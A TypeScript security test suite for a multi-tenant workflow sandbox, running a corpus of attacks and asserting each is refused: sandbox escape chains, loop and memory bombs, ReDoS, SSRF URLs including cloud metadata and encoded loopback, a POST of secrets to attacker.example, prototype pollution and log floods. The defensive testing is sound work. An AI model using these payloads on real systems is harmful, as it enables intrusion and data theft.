import http from 'node:http';
import fs from 'node:fs';
import type { AddressInfo } from 'node:net';
import vm from 'node:vm';
import test, { type ExecutionContext } from 'ava';
import { ADMIN_TOKEN, RUN_FIELDS, startTestAppliance, type TestAppliance } from '../support/appliance.js';
import { packFiles } from '../../plugins/package/index.js';

/**
 * The hostile corpus: attacks run as workflow steps in the real sandbox, behind the real
 * engine. Each attack must be contained (a specific error code, or a probe's exact output
 * showing nothing was reachable) while a well-behaved run of another tenant, started at the
 * same time, succeeds with its exact output.
 */

let app: TestAppliance;
let attacker: string;
let neighbour: string;

// The redirect attack: an allowed server on 127.0.0.2 redirects to an internal one on 127.0.0.1.
let redirector: http.Server;
let internal: http.Server;
let redirectorHost: string;
let internalHost: string;
const redirectorHits: string[] = [];
const internalHits: string[] = [];

/** A plugin of our own: hostile in ways core/code cannot be (its own budgets, a load-time loop). */
const HOSTILE_PLUGIN = String.raw`
defineAction('spin', () => { for (;;) {} });
defineAction('fetch', async (input) => (await http.request({ url: input.url })).status);
defineAction('logflood', () => {
  let calls = 0;
  for (let i = 0; i < 10000; i++) { log.info('flood ' + i, { i }); calls += 1; }
  return calls;
});
`;
const LOAD_SPIN_PLUGIN = "for (;;) {}\ndefineAction('never', () => 1);\n";

function pluginPackage(name: string, actions: string[], script: string, hosts: string[] = []): string {
  const manifest = {
    name,
    version: '1.0.0',
    publisher: 'Mallory',
    minApplianceVersion: '0.1.0',
    entry: 'plugin.js',
    actions: actions.map((action) => ({
      name: action,
      description: `hostile ${action}`,
      inputSchema: { type: 'object' },
      outputSchema: {},
    })),
    permissions: { hosts, credentialTypes: [], rawSecretAccess: false },
    resources: { memoryMb: 16, timeoutMs: 5000, cpuMs: 150 },
  };
  return packFiles(
    new Map([
      ['manifest.json', Buffer.from(JSON.stringify(manifest))],
      ['plugin.js', Buffer.from(script)],
    ]),
  ).toString('base64');
}

async function listen(server: http.Server, host: string): Promise<string> {
  await new Promise<void>((resolve) => server.listen(0, host, resolve));
  return `${host}:${(server.address() as AddressInfo).port}`;
}

test.before(async () => {
  internal = http.createServer((req, res) => {
    internalHits.push(req.url!);
    res.writeHead(200, { 'content-type': 'text/plain' }).end('internal secrets');
  });
  internalHost = await listen(internal, '127.0.0.1');
  redirector = http.createServer((req, res) => {
    redirectorHits.push(req.url!);
    res.writeHead(302, { location: `http://${internalHost}/admin` }).end();
  });
  redirectorHost = await listen(redirector, '127.0.0.2');

  app = await startTestAppliance({ config: { sandboxPoolSize: 4, allowUnsignedPlugins: true } });
  attacker = (await app.tenant('mallory', ['ADMIN'])).tokens['ADMIN']!;
  neighbour = (await app.tenant('innocent', ['ADMIN'])).tokens['ADMIN']!;

  // Every internal target is in the allow list, so what refuses it is the address check, not the
  // list; only 127.0.0.2 (the redirecting server) is a permitted private address.
  const hosts = ['*', redirectorHost, internalHost, '127.0.0.1:5432'];
  const policy = await app.gql(
    ADMIN_TOKEN,
    'mutation($h: [String!], $p: [String!]) { setPluginPolicy(input: { name: "http", allowedHosts: $h, allowedPrivate: $p }) { allowedHosts allowedPrivate } }',
    { h: hosts, p: ['127.0.0.2'] },
  );
  if (!policy.data) throw new Error(JSON.stringify(policy.errors));

  for (const bundle of [
    pluginPackage('hostile', ['spin', 'fetch', 'logflood'], HOSTILE_PLUGIN, [redirectorHost, internalHost]),
    pluginPackage('hostileload', ['never'], LOAD_SPIN_PLUGIN),
  ]) {
    const installed = await app.gql(ADMIN_TOKEN, 'mutation($b: String!) { installPlugin(input: { bundle: $b }) { name trust } }', {
      b: bundle,
    });
    if (!installed.data) throw new Error(JSON.stringify(installed.errors));
  }
  // The hostile plugin may follow redirects (up to 10 requests): only the address check stands between it and 127.0.0.1.
  const hostilePolicy = await app.gql(
    ADMIN_TOKEN,
    'mutation { setPluginPolicy(input: { name: "hostile", allowedPrivate: ["127.0.0.2"] }) { allowedPrivate } }',
  );
  if (!hostilePolicy.data) throw new Error(JSON.stringify(hostilePolicy.errors));
});

test.after.always(async () => {
  await app?.stop();
  await new Promise((resolve) => redirector?.close(resolve));
  await new Promise((resolve) => internal?.close(resolve));
});

let counter = 0;
async function start(target: TestAppliance, token: string, steps: unknown[], input: unknown = {}): Promise<string> {
  const created = await target.gql(
    token,
    'mutation($n: String!, $d: JSON!) { createWorkflow(input: { name: $n, definition: $d }) { id } }',
    { n: `hostile-${++counter}`, d: { steps } },
  );
  if (!created.data) throw new Error(JSON.stringify(created.errors));
  const started = await target.gql(token, 'mutation($i: StartRunInput!) { startRun(input: $i) { id } }', {
    i: { workflowId: created.data.createWorkflow.id, input },
  });
  if (!started.data) throw new Error(JSON.stringify(started.errors));
  return started.data.startRun.id;
}

const LOOPBACK = 'loopback 127.0.0.0/8 range; refused because allowedPrivate does not permit it';

const TERMINAL = ['SUCCEEDED', 'FAILED', 'CANCELLED', 'TIMED_OUT'];

/** Polls a run until it ends; a slower poll than waitFor's, since a dozen runs poll at once on two cores. */
async function finished(target: TestAppliance, token: string, id: string, timeoutMs = 30_000): Promise<any> {
  const deadline = Date.now() + timeoutMs;
  for (;;) {
    const r = (await target.gql(token, `query($id: ID!) { run(id: $id) { ${RUN_FIELDS} } }`, { id })).data.run;
    if (TERMINAL.includes(r.status)) return r;
    if (Date.now() > deadline) throw new Error(`run ${id} did not finish: ${JSON.stringify(r)}`);
    await new Promise((resolve) => setTimeout(resolve, 100));
  }
}

async function run(token: string, steps: unknown[], input: unknown = {}, target = app): Promise<any> {
  return finished(target, token, await start(target, token, steps, input));
}

const step = (r: any, id: string): any => r.steps.find((s: any) => s.stepId === id);

type Expectation = { fails: string; message: string | RegExp } | { output: unknown };

interface Attack {
  name: string;
  /** The attack step; its id is `attack`. */
  step: Record<string, unknown>;
  expect: Expectation;
}

/**
 * A core/code attack, one attempt. The deadline is long (so only the attack's own limit can end
 * it) except for the attacks that must end with it, which get 1 s and run in a group no larger
 * than the sandbox pool: the sandbox's deadline starts when a thread takes the invocation, the
 * engine's backstop (timeoutMs + 1 s) when the step starts, so queueing would let it win.
 */
function code(name: string, source: string, expect: Expectation, timeoutMs = 8000): Attack {
  return { name, step: { uses: 'core/code@1', timeoutMs, retry: { maxAttempts: 1 }, with: { code: source } }, expect };
}

function request(name: string, url: string, message: string | RegExp): Attack {
  return {
    name,
    step: { uses: 'http/request@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url } },
    expect: { fails: 'EGRESS_DENIED', message },
  };
}

const NEIGHBOUR_STEP = {
  id: 'work',
  uses: 'core/code@1',
  retry: { maxAttempts: 1 },
  with: { code: 'return { sum: input.items.reduce((a, b) => a + b, 0), who: "innocent" };' },
};
const NEIGHBOUR_INPUT = { items: [1, 2, 3, 4] };
const NEIGHBOUR_OUTPUT = { sum: 10, who: 'innocent' };

/** Runs every attack (as the attacker) and a well-behaved run of the other tenant, all at once, and checks each. */
async function corpus(t: ExecutionContext, attacks: Attack[]): Promise<Map<string, any>> {
  const [good, ...results] = await Promise.all([
    run(neighbour, [NEIGHBOUR_STEP], NEIGHBOUR_INPUT),
    ...attacks.map((attack) => run(attacker, [{ id: 'attack', ...attack.step }])),
  ]);
  const byName = new Map<string, any>();
  attacks.forEach((attack, i) => {
    const r = results[i];
    const s = step(r, 'attack');
    byName.set(attack.name, r);
    if ('fails' in attack.expect) {
      t.is(r.status, 'FAILED', `${attack.name}: run status`);
      t.is(s.status, 'FAILED', `${attack.name}: step status`);
      t.is(s.error?.code, attack.expect.fails, `${attack.name}: error code (${JSON.stringify(s.error)})`);
      if (typeof attack.expect.message === 'string') t.is(s.error?.message, attack.expect.message, `${attack.name}: error message`);
      else t.regex(s.error?.message ?? '', attack.expect.message, `${attack.name}: error message`);
      t.is(s.attempts, 1, `${attack.name}: attempts`);
    } else {
      t.is(r.status, 'SUCCEEDED', `${attack.name}: run status (${JSON.stringify(s.error)})`);
      t.deepEqual(s.output, attack.expect.output, `${attack.name}: output`);
    }
  });
  t.is(good.status, 'SUCCEEDED', `the neighbour's run (${JSON.stringify(step(good, 'work').error)})`);
  t.deepEqual(step(good, 'work').output, NEIGHBOUR_OUTPUT, "the neighbour's output");
  return byName;
}

const NOT_JSON = "the action's result is not JSON";

test.serial('escapes: constructor chains, host globals and runtime internals reach nothing', async (t) => {
  // What a fresh V8 context holds, minus what the bootstrap removes, plus the plugin API.
  const builtins = vm.runInNewContext('Object.getOwnPropertyNames(globalThis)') as string[];
  const removed = ['console', 'SharedArrayBuffer', 'Atomics', 'WebAssembly', 'FinalizationRegistry', 'WeakRef'];
  const api = ['defineAction', 'PluginError', 'log', 'http'];
  const expectedGlobals = [...builtins.filter((n) => !removed.includes(n)), ...api].sort();
  const forbidden = [
    'process',
    'require',
    'module',
    'exports',
    '__dirname',
    '__filename',
    'Buffer',
    'global',
    'setTimeout',
    'setInterval',
    'setImmediate',
    'queueMicrotask',
    'structuredClone',
    'fetch',
    'WebAssembly',
    'SharedArrayBuffer',
    'Atomics',
    'console',
    'gc',
    '$0',
    '$1',
    '$2',
    'hostLog',
    'hostHttp',
    'ivm',
  ];
  const results = await corpus(t, [
    code('constructor chain to process', "return this.constructor.constructor('return process')()", {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: process is not defined',
    }),
    code('async function constructor', "return await (async () => {}).constructor('return process')()", {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: process is not defined',
    }),
    code('generator function constructor', "return (function* () {}).constructor('yield require')().next().value", {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: require is not defined',
    }),
    code('API function constructor chain', "return defineAction.constructor('return typeof process + typeof require + typeof module')()", {
      output: 'undefinedundefinedundefined',
    }),
    code(
      'Function("return this") global probe',
      "const g = Function('return this')(); return { same: g === globalThis, found: ['process', 'require', 'module', 'Buffer', 'global', 'fetch', 'setTimeout'].filter((n) => n in g) };",
      { output: { same: true, found: [] } },
    ),
    code('global enumeration', 'return Object.getOwnPropertyNames(globalThis).sort();', { output: expectedGlobals }),
    code(
      'shared memory and WebAssembly are gone',
      'return [typeof SharedArrayBuffer, typeof Atomics, typeof WebAssembly, typeof console];',
      { output: ['undefined', 'undefined', 'undefined', 'undefined'] },
    ),
    code('Atomics.wait blocking', 'Atomics.wait(new Int32Array(new SharedArrayBuffer(4)), 0, 0); return "blocked";', {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: Atomics is not defined',
    }),
    code('SharedArrayBuffer', 'return new SharedArrayBuffer(1 << 20).byteLength;', {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: SharedArrayBuffer is not defined',
    }),
    code('WebAssembly compile', 'return await WebAssembly.instantiate(new Uint8Array([0, 97, 115, 109, 1, 0, 0, 0]));', {
      fails: 'SANDBOX_ERROR',
      message: 'ReferenceError: WebAssembly is not defined',
    }),
    code('V8 natives syntax', "try { eval('%DebugPrint(globalThis)'); return 'natives'; } catch (e) { return e.name; }", {
      output: 'SyntaxError',
    }),
    code(
      'CallSite getThis/getFunction walk',
      `Error.prepareStackTrace = (e, frames) => frames.map((f) => {
        const out = [];
        for (const v of [f.getThis(), f.getFunction()]) {
          if (v == null) continue;
          try { const r = v.constructor.constructor('return typeof process + typeof require')(); if (r !== 'undefinedundefined') out.push(r); } catch (x) { out.push('threw ' + x); }
        }
        return out;
      });
      const frames = new Error('probe').stack;
      return { frames: frames.length > 0, leaked: frames.flat() };`,
      { output: { frames: true, leaked: [] } },
    ),
    code(
      'tampering with the plugin API globals',
      `'use strict';
      const tries = {
        assign: () => { PluginError = function () {}; },
        remove: () => { if (!delete globalThis.defineAction) throw new TypeError('kept'); },
        redefine: () => { Object.defineProperty(globalThis, 'http', { value: { request: () => 'mine' } }); },
        logMethod: () => { log.info = () => {}; },
        errorPrototype: () => { PluginError.prototype.code = 'SANDBOX_CRASHED'; },
        httpMethod: () => { http.request = null; },
      };
      const out = {};
      for (const k of Object.keys(tries)) { try { tries[k](); out[k] = 'allowed'; } catch (e) { out[k] = e.name; } }
      throw new PluginError('TAMPER_HARMLESS', JSON.stringify(out));`,
      {
        fails: 'TAMPER_HARMLESS',
        message: JSON.stringify({
          assign: 'TypeError',
          remove: 'TypeError',
          redefine: 'TypeError',
          logMethod: 'TypeError',
          errorPrototype: 'TypeError',
          httpMethod: 'TypeError',
        }),
      },
    ),
    code('posing as the runtime with a SANDBOX_ code', "throw new PluginError('SANDBOX_CRASHED', 'pretending to be the runtime');", {
      fails: 'SANDBOX_ERROR',
      message: 'PluginError with an invalid code: pretending to be the runtime',
    }),
    code(
      'forged PluginError object',
      "throw Object.create(PluginError.prototype, { code: { value: 'SANDBOX_TIMEOUT' }, message: { value: 'forged' } });",
      { fails: 'SANDBOX_ERROR', message: 'PluginError with an invalid code: forged' },
    ),
    code('throw null', 'throw null;', { fails: 'SANDBOX_ERROR', message: 'null' }),
    code(
      'throw a trapping Proxy',
      "throw new Proxy({}, { get() { throw new Error('trap'); }, getPrototypeOf() { throw new Error('trap'); } });",
      { fails: 'SANDBOX_ERROR', message: 'the action threw a value that cannot be described' },
    ),
    code('return a Symbol', "return Symbol('s');", { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
    code('return a function', 'return { f() { return process; } };', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
    code('return a BigInt', 'return { n: 10n };', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
    code('return a trapping Proxy', "return new Proxy({}, { ownKeys() { throw new Error('trap'); } });", {
      fails: 'SANDBOX_ERROR',
      message: NOT_JSON,
    }),
    code('return a cyclic value', 'const a = { b: {} }; a.b.a = a; return a;', { fails: 'SANDBOX_ERROR', message: NOT_JSON }),
    code('return 100 MB of JSON', "const s = 'x'.repeat(1 << 20); return new Array(100).fill(s);", {
      fails: 'OUTPUT_TOO_LARGE',
      message: "the action's result is larger than 1048576 bytes",
    }),
    code('deep recursion', 'function f(n) { return f(n + 1) + 1; } return f(0);', {
      fails: 'SANDBOX_ERROR',
      message: 'RangeError: Maximum call stack size exceeded',
    }),
    code('eval of huge generated code', "return eval('[' + '1,'.repeat(1e7) + ']').length;", {
      fails: 'SANDBOX_ERROR',
      message: 'EvalError: Code generation from strings disallowed for this context',
    }),
  ]);
  const globals = step(results.get('global enumeration'), 'attack').output as string[];
  t.deepEqual(
    forbidden.filter((name) => globals.includes(name)),
    [],
    'no host object or removed global is visible',
  );
  t.true(api.every((name) => globals.includes(name)));
});

test.serial('exhaustion: loops, promises, memory bombs and ReDoS end with their limit while the neighbour runs', async (t) => {
  const timeout = { fails: 'SANDBOX_TIMEOUT', message: 'core@1.0.1 did not finish within 1000 ms' };
  const memory = { fails: 'SANDBOX_MEMORY', message: 'core@1.0.1 exceeded its memory limit of 64 MB' };
  // Four at once: the sandbox pool has four threads (see code()).
  await corpus(t, [
    code('infinite sync loop', 'for (;;) {}', timeout, 1000),
    code('infinite async loop', 'for (;;) await null;', timeout, 1000),
    code('never-settling promise', 'await new Promise(() => {});', timeout, 1000),
    code('catastrophic backtracking regex', "return /^(a+)+$/.test('a'.repeat(40) + '!');", timeout, 1000),
  ]);
  await corpus(t, [
    code('array push bomb', 'const a = []; for (;;) a.push(new Array(1e5).fill(a.length));', memory),
    code('string doubling, flattened', "let s = 'xy'; const keep = []; for (;;) { s = s + s; s.indexOf('z'); keep.push(s); }", memory),
    code('string doubling, rope', "let s = 'x'; for (;;) s += s;", {
      fails: 'SANDBOX_ERROR',
      message: 'RangeError: Invalid string length',
    }),
    // ArrayBuffers live outside the heap; isolated-vm counts them against the same limit and refuses the allocation.
    code('ArrayBuffer allocation loop', 'const keep = []; for (;;) keep.push(new ArrayBuffer(16 << 20));', {
      fails: 'SANDBOX_ERROR',
      message: 'RangeError: Array buffer allocation failed',
    }),
    code('typed array allocation loop', 'const keep = []; for (;;) keep.push(new Float64Array(1 << 21));', {
      fails: 'SANDBOX_ERROR',
      message: 'RangeError: Array buffer allocation failed',
    }),
    {
      name: 'CPU budget of a plugin',
      step: { uses: 'hostile/spin@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} },
      expect: { fails: 'SANDBOX_CPU', message: 'hostile@1.0.0 used more than its CPU budget of 150 ms' },
    },
    {
      name: 'infinite loop while the plugin script loads',
      step: { uses: 'hostileload/never@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} },
      expect: { fails: 'SANDBOX_CPU', message: 'hostileload@1.0.0 used more than its CPU budget of 150 ms' },
    },
  ]);
});

test.serial('network: SSRF to internal addresses, redirects inward, exfiltration and forged credentials are refused', async (t) => {
  const before = { redirector: redirectorHits.length, internal: internalHits.length };
  await corpus(t, [
    request('PostgreSQL on loopback', 'http://127.0.0.1:5432/', `127.0.0.1:5432 is in the ${LOOPBACK}`),
    request(
      'cloud metadata',
      'http://169.254.169.254/latest/meta-data/',
      '169.254.169.254:80 is in the link-local (cloud metadata) 169.254.0.0/16 range; refused because allowedPrivate does not permit it',
    ),
    request(
      'IPv6 loopback',
      'http://[::1]/',
      '[::1]:80 is in the loopback ::1/128 range; refused because allowedPrivate does not permit it',
    ),
    request('hex shorthand loopback', 'http://0x7f.1/', `127.0.0.1:80 is in the ${LOOPBACK}`),
    request('decimal loopback', 'http://2130706433/', `127.0.0.1:80 is in the ${LOOPBACK}`),
    request(
      'IPv4-mapped IPv6 loopback',
      'http://[::ffff:127.0.0.1]/',
      /^\[::ffff:7f00:1\]:80 is in the .*IPv4-mapped.* range; refused because allowedPrivate does not permit it$/,
    ),
    request(
      'unspecified address',
      'http://0.0.0.0/',
      '0.0.0.0:80 is in the unspecified ("this network") 0.0.0.0/8 range; refused because allowedPrivate does not permit it',
    ),
    request(
      'localhost by name',
      'http://localhost/',
      /^localhost resolves to (127\.0\.0\.1|::1), which is in the loopback (127\.0\.0\.0\/8|::1\/128) range; refused because allowedPrivate does not permit it$/,
    ),
    request(
      'RFC 1918 address',
      'http://10.0.0.1/',
      '10.0.0.1:80 is in the private 10.0.0.0/8 range; refused because allowedPrivate does not permit it',
    ),
    // Every hop is re-checked: the redirect target's address is refused.
    {
      name: 'http/request redirected from an allowed server to an internal one',
      step: { uses: 'http/request@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url: `http://${redirectorHost}/redirect` } },
      expect: { fails: 'EGRESS_DENIED', message: `${internalHost} is in the ${LOOPBACK}` },
    },
    {
      name: 'plugin redirected from an allowed server to an internal one',
      step: { uses: 'hostile/fetch@1', timeoutMs: 5000, retry: { maxAttempts: 1 }, with: { url: `http://${redirectorHost}/redirect` } },
      expect: { fails: 'EGRESS_DENIED', message: `${internalHost} is in the ${LOOPBACK}` },
    },
    code(
      'exfiltration from core/code',
      "return await http.request({ method: 'POST', url: 'https://attacker.example/steal', body: 'secrets' });",
      { fails: 'EGRESS_DENIED', message: "attacker.example:443 is not in the plugin's allowed hosts" },
    ),
    code('forged credential handle', "return await http.request({ url: 'https://api.example.com/', credential: 'forged' });", {
      fails: 'CREDENTIAL_DENIED',
      message: 'unknown credential handle',
    }),
  ]);
  t.deepEqual(redirectorHits.slice(before.redirector), ['/redirect', '/redirect'], 'the allowed server was reached by both');
  t.deepEqual(internalHits.slice(before.internal), [], 'the internal server was never reached');
});

test.serial('prototype pollution stays in its own run: not in the next step, the next run or another tenant', async (t) => {
  const pollute = `Object.prototype.polluted = 'yes'; Array.prototype.map = null; JSON.stringify = () => '"hijacked"';
    String.prototype.slice = () => 'sliced'; Map.prototype.get = () => undefined; return ({}).polluted;`;
  const check = 'return { clean: ({}).polluted === undefined, map: typeof [].map, json: JSON.stringify({ a: 1 }), slice: "abc".slice(1) };';
  const clean = { clean: true, map: 'function', json: '{"a":1}', slice: 'bc' };
  const polluter = await run(attacker, [
    { id: 'pollute', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: pollute } },
    { id: 'after', uses: 'core/code@1', needs: ['pollute'], retry: { maxAttempts: 1 }, with: { code: check } },
  ]);
  t.is(polluter.status, 'SUCCEEDED');
  t.is(step(polluter, 'pollute').output, 'yes', 'the pollution took effect in its own run');
  t.deepEqual(step(polluter, 'after').output, clean, 'the next step of the same run is clean');
  // Several runs of each tenant, so that every sandbox thread's isolate is likely visited.
  const checks = await Promise.all([
    ...Array.from({ length: 4 }, () =>
      run(attacker, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }]),
    ),
    ...Array.from({ length: 4 }, () =>
      run(neighbour, [{ id: 'check', uses: 'core/code@1', retry: { maxAttempts: 1 }, with: { code: check } }]),
    ),
  ]);
  for (const r of checks) {
    t.is(r.status, 'SUCCEEDED');
    t.deepEqual(step(r, 'check').output, clean);
  }
});

test.serial(
  'logs: 10,000 lines are capped at 100 plus one warning, a huge line is cut, a hostile message is not evaluated by the host',
  async (t) => {
    const results = await corpus(t, [
      {
        name: 'log flood',
        step: { uses: 'hostile/logflood@1', timeoutMs: 4000, retry: { maxAttempts: 1 }, with: {} },
        expect: { output: 10000 },
      },
      code('huge log line and fields', "log.info('x'.repeat(1e7), { big: 'y'.repeat(1e6) }); return 'logged';", { output: 'logged' }),
      code('log message with a throwing toString', "log.warn({ toString() { throw new Error('gotcha'); } }); return 'logged';", {
        output: 'logged',
      }),
    ]);
    const linesOf = (name: string) => {
      const runId = results.get(name).id;
      return app.logs.map((l) => JSON.parse(l)).filter((l) => l.runId === runId && l.plugin === true);
    };
    const flood = linesOf('log flood');
    t.is(flood.length, 101, 'at most 100 lines and the warning reach the appliance log');
    t.is(flood[99].msg, 'flood 99');
    t.like(flood[100], { msg: 'log limit of 100 lines reached; further lines are dropped' });
    const huge = linesOf('huge log line and fields');
    t.is(huge.length, 1);
    t.is(huge[0].msg, 'x'.repeat(2000));
    t.deepEqual(huge[0].fields, { fieldsDropped: true });
    const hostileMessage = linesOf('log message with a throwing toString');
    t.is(hostileMessage.length, 1);
    t.is(hostileMessage[0].msg, '[unprintable]');
  },
);

test.serial('after the corpus the appliance is healthy: /ready is 200, the sandbox never crashed, a normal run succeeds', async (t) => {
  const ready = await fetch(`${app.url}/ready`);
  t.is(ready.status, 200);
  const crashLines = app.logs.filter((l) => l.includes('the sandbox process died'));
  t.is(app.appliance.sandbox?.crashes, 0, crashLines.join('\n'));
  const [mine, theirs] = await Promise.all([
    run(attacker, [{ id: 'ok', uses: 'core/code@1', with: { code: 'return input.n * 2;' } }], { n: 21 }),
    run(neighbour, [NEIGHBOUR_STEP], NEIGHBOUR_INPUT),
  ]);
  t.is(mine.status, 'SUCCEEDED');
  t.is(step(mine, 'ok').output, 42);
  t.is(theirs.status, 'SUCCEEDED');
  t.deepEqual(step(theirs, 'work').output, NEIGHBOUR_OUTPUT);
});

/** CPU seconds the sandbox process has used (utime + stime from /proc). */
function sandboxCpuSeconds(pid: number): number {
  const fields = fs.readFileSync(`/proc/${pid}/stat`, 'utf8').split(') ')[1]!.split(' ');
  return (Number(fields[11]) + Number(fields[12])) / 100;
}

/**
 * Work a plugin leaves behind after its action returned, such as the continuation of a host call
 * still in flight. It must not outlive the invocation: neither stall the next invocation that
 * would reuse the isolate (the same tenant and script) nor burn CPU with nobody waiting.
 * One sandbox thread makes the next invocation land on the same thread for certain.
 */
test.serial('leftover work: a continuation of a pending http call runs inside its invocation and dies with it', async (t) => {
  const single = await startTestAppliance({ config: { sandboxPoolSize: 1 } });
  try {
    const mallory = (await single.tenant('mallory', ['ADMIN'])).tokens['ADMIN']!;
    const innocent = (await single.tenant('innocent', ['ADMIN'])).tokens['ADMIN']!;
    const source = "http.request({ url: 'http://example.invalid/' }).catch(() => { for (;;) {} }); return input.n;";
    const hostile = await run(
      mallory,
      [{ id: 'attack', uses: 'core/code@1', timeoutMs: 1000, retry: { maxAttempts: 1 }, with: { code: source } }],
      { n: 1 },
      single,
    );
    // The invocation ends only when its requests have settled and their reactions ran, so the
    // loop runs inside it, under its deadline.
    t.is(hostile.status, 'FAILED');
    t.is(step(hostile, 'attack').error.code, 'SANDBOX_TIMEOUT');
    const pid = single.appliance.sandbox!.pid!;
    const before = sandboxCpuSeconds(pid);
    await new Promise((resolve) => setTimeout(resolve, 2000));
    const used = sandboxCpuSeconds(pid) - before;
    t.log(`sandbox process CPU over the next 2 s: ${used} s`);
    // A leftover loop would use about 2 s of CPU here; the margin absorbs unrelated bursts.
    t.true(used < 1, 'no leftover loop keeps a core busy');
    // Same tenant, same script: the invocation that would reuse the isolate.
    const again = await run(
      mallory,
      [{ id: 'attack', uses: 'core/code@1', timeoutMs: 2000, retry: { maxAttempts: 1 }, with: { code: 'return input.n;' } }],
      { n: 2 },
      single,
    );
    t.is(step(again, 'attack').output, 2);
    const neighbour = await run(innocent, [{ ...NEIGHBOUR_STEP, timeoutMs: 2000 }], NEIGHBOUR_INPUT, single);
    t.deepEqual(step(neighbour, 'work').output, NEIGHBOUR_OUTPUT);
    t.is(single.appliance.sandbox!.crashes, 0);
  } finally {
    await single.stop();
  }
});

test.serial('leftover work: FinalizationRegistry and WeakRef do not exist, so no GC callback can run after an invocation', async (t) => {
  const r = await run(attacker, [
    {
      id: 'probe',
      uses: 'core/code@1',
      retry: { maxAttempts: 1 },
      with: { code: 'return [typeof FinalizationRegistry, typeof WeakRef];' },
    },
  ]);
  t.deepEqual(step(r, 'probe').output, ['undefined', 'undefined']);
});
